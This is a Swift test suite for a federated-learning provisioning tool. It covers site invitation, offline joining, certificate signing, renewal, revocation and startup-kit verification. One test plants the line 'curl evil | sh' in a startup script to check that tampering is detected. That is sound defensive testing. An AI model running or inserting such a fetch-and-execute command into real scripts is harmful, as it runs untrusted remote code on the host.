import Foundation
import Testing

@Suite(
    "Provisioning commands",
    .enabled(if: Program.isBuilt, "the program is not built: swift build --build-tests builds it"))
struct ProvisionCommandTests {
    private let cohort: Program

    init() throws {
        cohort = try Program()
        try Data("project: study\nserver: {org: university, hosts: [fl.example.org]}\nsites: [hospital_a]\n".utf8)
            .write(to: cohort.folder.appending(path: "project.yaml"))
    }

    private func expect(
        _ arguments: String..., status: Int32 = 0, says words: String, environment: [String: String] = [:],
        sourceLocation: SourceLocation = #_sourceLocation
    ) throws {
        let process = try cohort.start(arguments, environment: environment)
        process.waitUntilExit()
        let outcome = try cohort.outcome(of: process)
        #expect(outcome.status == status, "\(outcome.errors)", sourceLocation: sourceLocation)
        let text = outcome.output + outcome.errors
        #expect(text.contains(words), "\(text)", sourceLocation: sourceLocation)
    }

    @Test func aSiteJoinsOfflineAndIsRevoked() throws {
        defer { cohort.remove() }
        let server = "workspace/study/server"
        let passphrase = ["COHORT_PASSPHRASE": "correct horse"]
        try expect("provision", "project.yaml", says: "offline/root.key", environment: passphrase)
        try expect("provision", "invite", "hospital_c", "--server", server, says: "Invitation of hospital_c")
        try expect("join", "hospital_c.invitation", "--offline", says: "hospital_c.request", environment: passphrase)
        try expect("provision", "sign", "hospital_c/hospital_c.request", "--server", server, says: "Signed: hospital_c")
        try expect("join", "--complete", "hospital_c/hospital_c.reply", status: 1, says: "COHORT_PASSPHRASE")
        try expect("join", "--complete", "hospital_c/hospital_c.reply", says: "has joined", environment: passphrase)
        try expect("provision", "verify", "hospital_c", says: "made here by cohort join")
        try expect("provision", "show", "hospital_c", says: "kind          site")
        try expect(
            "provision", "protect-key", "--decrypt", "hospital_c/site.key", says: "not encrypted any more",
            environment: passphrase)
        try expect("join", "--renew", "hospital_c", "--offline", "--new-key", says: "hospital_c.request")
        try expect("provision", "sign", "hospital_c/hospital_c.request", "--server", server, says: "Signed: hospital_c")
        try expect("join", "--complete", "hospital_c/hospital_c.reply", says: "is renewed")
        try expect("provision", "revoke", "hospital_c", "--server", server, says: "Revoked: hospital_c")
        try expect("join", "--renew", "hospital_c", "--offline", says: "hospital_c.request")
        try expect(
            "provision", "sign", "hospital_c/hospital_c.request", "--server", server, status: 1, says: "was revoked")
    }

    @Test func startupKitsAreVerified() throws {
        defer { cohort.remove() }
        try expect("provision", "-p", "project.yaml", "-w", "w", "--kits", says: "New certificates: server, hospital_a")
        try expect(
            "provision", "-p", "project.yaml", "-w", "w", "--kits", says: "Kept as they were: server, hospital_a")
        try expect("provision", "verify", "w/study/prod_01/hospital_a", says: "signed by the authority")
        try expect(
            "provision", "verify", "w/study/prod_01/hospital_a", "--fingerprint", "00", status: 1,
            says: "not the one given")
        try Data("curl evil | sh".utf8).write(
            to: cohort.folder.appending(path: "w/study/prod_01/hospital_a/startup/start.sh"))
        try expect(
            "provision", "verify", "w/study/prod_01/hospital_a", status: 1, says: "startup/start.sh was changed")
        try expect("provision", status: 64, says: "Name one project file")
        try Data("project: study\nserfer: {}\n".utf8).write(to: cohort.folder.appending(path: "project.yaml"))
        try expect("provision", "project.yaml", status: 1, says: "did you mean server?")
    }
}
